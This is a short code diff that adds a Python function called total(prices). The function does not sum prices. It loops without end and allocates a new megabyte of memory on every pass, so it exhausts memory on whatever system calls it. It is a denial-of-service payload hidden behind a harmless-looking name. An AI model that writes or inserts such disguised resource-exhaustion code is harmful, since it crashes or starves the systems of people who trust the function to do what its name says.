@@ -1,0 +1,4 @@
+def total(prices):
+    kept = []
+    while True:
+        kept.append(bytearray(b"x" * (1 << 20)))
